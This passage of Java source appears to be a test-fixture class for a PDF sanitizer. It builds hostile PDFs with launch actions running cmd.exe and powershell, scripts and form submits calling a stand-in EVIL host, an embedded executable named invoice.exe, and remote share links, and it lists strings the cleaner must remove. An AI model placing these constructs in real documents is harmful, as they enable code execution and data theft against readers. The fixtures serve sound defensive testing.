      annots.add(link(100, action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\share"))));
      annots.add(link(130, action("SubmitForm", "F", new COSString("http://" + EVIL + "/submit"))));
      // a Flash player with its movie, a 3D model whose script runs when it is shown, a screen
      // that plays a rendition, a sound: each plays or runs something of its own
      COSStream swf = doc.getDocument().createCOSStream();
      try (var o = swf.createOutputStream()) {
        o.write(ascii("FWS\u0009" + "RICHMEDIA-PAYLOAD http://" + EVIL + "/flash"));
      }
      COSDictionary asset = new COSDictionary();
      asset.setName(COSName.TYPE, "Filespec");
      asset.setString(COSName.F, "player.swf");
      COSDictionary assetEf = new COSDictionary();
      assetEf.setItem(COSName.F, swf);
      asset.setItem(COSName.EF, assetEf);
      COSArray assets = new COSArray();
      assets.add(new COSString("player.swf"));
      assets.add(asset);
      COSDictionary assetTree = new COSDictionary();
      assetTree.setItem(COSName.NAMES, assets);
      COSDictionary content = new COSDictionary();
      content.setItem(COSName.getPDFName("Assets"), assetTree);
      COSDictionary richMedia = link(160, action("RichMediaExecute", null, null));
      richMedia.setName(COSName.SUBTYPE, "RichMedia");
      richMedia.setItem(COSName.getPDFName("RichMediaContent"), content);
      annots.add(richMedia);
      COSStream model = doc.getDocument().createCOSStream();
      try (var o = model.createOutputStream()) {
        o.write(ascii("U3D-MODEL-PAYLOAD"));
      }
      model.setName(COSName.TYPE, "3D");
      model.setName(COSName.SUBTYPE, "U3D");
      COSStream onInstantiate = doc.getDocument().createCOSStream();
      try (var o = onInstantiate.createOutputStream()) {
        o.write(ascii("host.getURL('http://" + EVIL + "/3d');"));
      }
      model.setItem(COSName.getPDFName("OnInstantiate"), onInstantiate);
      COSDictionary threeD = link(190, action("GoTo3DView", null, null));
      threeD.setName(COSName.SUBTYPE, "3D");
      threeD.setItem(COSName.getPDFName("3DD"), model);
      annots.add(threeD);
      COSDictionary screen = link(220, action("Rendition", "JS", new COSString("app.launchURL('http://" + EVIL + "/r')")));
      screen.setName(COSName.SUBTYPE, "Screen");
      annots.add(screen);
      COSDictionary sound = link(250, action("Sound", null, null));
      sound.setName(COSName.SUBTYPE, "Sound");
      annots.add(sound);
      page.getCOSObject().setItem(COSName.ANNOTS, annots);
      // a form with XFA (its own scripts and a submit address) and a field that submits
      COSStream xfa = doc.getDocument().createCOSStream();
      try (var o = xfa.createOutputStream()) {
        o.write(ascii("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>xfa.host.gotoURL('http://" + EVIL + "/xfa')</script>"
            + "<submit target=\"http://" + EVIL + "/submit\"/></xdp:xdp>"));
      }
      COSDictionary acro = new COSDictionary();
      acro.setItem(COSName.FIELDS, new COSArray());
      acro.setItem(COSName.getPDFName("XFA"), xfa);
      catalog.setItem(COSName.ACRO_FORM, acro);
      catalog.setBoolean(COSName.getPDFName("NeedsRendering"), true);
      // JavaScript in the name tree and an executable attached as an embedded file
      COSDictionary names = new COSDictionary();
      COSDictionary js = new COSDictionary();
      COSArray jsNames = new COSArray();
      jsNames.add(new COSString("init"));
      jsNames.add(action("JavaScript", "JS", new COSString("this.submitForm('http://" + EVIL + "/names')")));
      js.setItem(COSName.NAMES, jsNames);
      names.setItem(COSName.JAVA_SCRIPT, js);
      COSStream exe = doc.getDocument().createCOSStream();
      try (var o = exe.createOutputStream()) {
        o.write(cat(ascii("MZ\u0090\u0000"), new byte[64], ascii("This program cannot be run in DOS mode")));
      }
      exe.setName(COSName.TYPE, "EmbeddedFile");
      COSDictionary ef = new COSDictionary();
      ef.setItem(COSName.F, exe);
      COSDictionary spec = new COSDictionary();
      spec.setName(COSName.TYPE, "Filespec");
      spec.setString(COSName.F, "invoice.exe");
      spec.setItem(COSName.EF, ef);
      COSDictionary files = new COSDictionary();
      COSArray fileNames = new COSArray();
      fileNames.add(new COSString("invoice.exe"));
      fileNames.add(spec);
      files.setItem(COSName.NAMES, fileNames);
      names.setItem(COSName.EMBEDDED_FILES, files);
      catalog.setItem(COSName.NAMES, names);
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      doc.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static COSDictionary dict(Object... keysAndValues) {
    COSDictionary d = new COSDictionary();
    for (int i = 0; i < keysAndValues.length; i += 2) {
      Object v = keysAndValues[i + 1];
      d.setItem(COSName.getPDFName((String) keysAndValues[i]), v instanceof String s ? COSName.getPDFName(s)
          : v instanceof byte[] b ? new COSString(b) : (org.apache.pdfbox.cos.COSBase) v);
    }
    return d;
  }

  private static COSArray array(org.apache.pdfbox.cos.COSBase... items) {
    COSArray a = new COSArray();
    for (var i : items) {
      a.add(i);
    }
    return a;
  }

  /**
   * Found by review: actions a click runs that the cleaner kept because they looked like no action
   * (a {@code /Launch} with only {@code /Win}, a {@code /Rendition} with only {@code /R}) in a
   * {@code /Next} array, {@code /Thread} actions that open a file at an address or on a share, a
   * form that a reader may replace by a page of an outside file ({@code /Ref}); with close
   * variants: an action in a chain by reference, a chain that loops, an outline item, a link's
   * former action ({@code /PA}). A thread action inside the document stays, and the web link.
   */
  static byte[] pdfActionsBehindClicks() {
    try (PDDocument doc = new PDDocument()) {
      PDPage page = new PDPage(PDRectangle.A6);
      doc.addPage(page);
      COSStream figure = doc.getDocument().createCOSStream();
      try (var o = figure.createOutputStream()) {
        o.write(ascii("0 0 m 10 10 l S"));
      }
      figure.setItem(COSName.TYPE, COSName.XOBJECT);
      figure.setItem(COSName.SUBTYPE, COSName.FORM);
      figure.setItem(COSName.BBOX, array(COSInteger.ZERO, COSInteger.ZERO, COSInteger.get(10), COSInteger.get(10)));
      figure.setItem(COSName.getPDFName("Ref"), dict("F", dict("FS", "URL", "F", ascii("http://" + EVIL + "/ref.pdf")),
          "Page", COSInteger.ZERO));
      page.setResources(new org.apache.pdfbox.pdmodel.PDResources());
      page.getResources().getCOSObject().setItem(COSName.XOBJECT, dict("Fig", figure));
      try (PDPageContentStream cs = evidence(doc, page)) {
        cs.drawForm(new org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject(figure));
      }
      COSDictionary jump = dict("S", "GoTo", "D", array(page.getCOSObject(), COSName.getPDFName("Fit")));
      COSDictionary launch = dict("S", "Launch", "Win", dict("F", ascii("cmd.exe"), "P", ascii("/c calc")));
      COSDictionary rendition = dict("S", "Rendition", "OP", COSInteger.ZERO, "R", dict("S", "MR", "C",
          dict("S", "MCD", "CT", ascii("audio/mpeg"), "D", dict("FS", "URL", "F", ascii("http://" + EVIL + "/a.mp3")))));
      COSDictionary gotor = dict("S", "GoToR", "F", ascii("\\\\" + EVIL + "\\share\\x.pdf"));
      jump.setItem(COSName.NEXT, array(launch, rendition, gotor));
      // a web link whose chain loops back to it through a jump that also launches
      COSDictionary web = action("URI", "URI", new COSString(WEB_LINK));
      COSDictionary loop = dict("S", "GoTo", "D", array(page.getCOSObject(), COSName.getPDFName("Fit")));
      loop.setItem(COSName.NEXT, array(web, dict("S", "Launch", "F", ascii("powershell.exe"))));
      web.setItem(COSName.NEXT, loop);
      COSDictionary formerAction = link(130, jump);
      formerAction.setItem(COSName.PA, action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\pa")));
      COSArray annots = array(link(10, jump),
          link(40, dict("S", "Thread", "D", COSInteger.ZERO, "F", dict("FS", "URL", "F", ascii("http://" + EVIL + "/t.pdf")))),
          link(70, dict("S", "Thread", "D", COSInteger.ZERO, "F", ascii("\\\\" + EVIL + "\\share\\t.pdf"))),
          link(100, dict("S", "Thread", "D", COSInteger.ZERO)), formerAction, link(160, web));
      page.getCOSObject().setItem(COSName.ANNOTS, annots);
      COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
      COSDictionary item = dict("Title", ascii("EVIDENCE outline"), "A", dict("S", "Launch", "Win", dict("F", ascii("calc.exe"))));
      COSDictionary outlines = dict("Type", "Outlines", "First", item, "Last", item, "Count", COSInteger.ONE);
      item.setItem(COSName.PARENT, outlines);
      catalog.setItem(COSName.OUTLINES, outlines);
      COSDictionary thread = dict("Type", "Thread");
      COSDictionary bead = dict("Type", "Bead", "T", thread, "P", page.getCOSObject(),
          "R", array(COSInteger.ZERO, COSInteger.ZERO, COSInteger.get(10), COSInteger.get(10)));
      bead.setItem(COSName.N, bead);
      bead.setItem(COSName.V, bead);
      thread.setItem(COSName.F, bead);
      catalog.setItem(COSName.THREADS, array(thread));
      page.getCOSObject().setItem(COSName.B, array(bead));
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      doc.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static List<String> pdfNeverAfterCleaning() {
    return List.of("/OpenAction", "/AA", "/GoToR", "/Launch", "/XFA", "/NeedsRendering", "/JavaScript", "/JS",
        "/SubmitForm", "/EmbeddedFile", "This program cannot be run", EVIL, "powershell", "/RichMedia", "RICHMEDIA-PAYLOAD",
        "/3D", "U3D-MODEL-PAYLOAD", "OnInstantiate", "/Screen", "/Rendition", "/Sound", "GoTo3DView");
  }
}
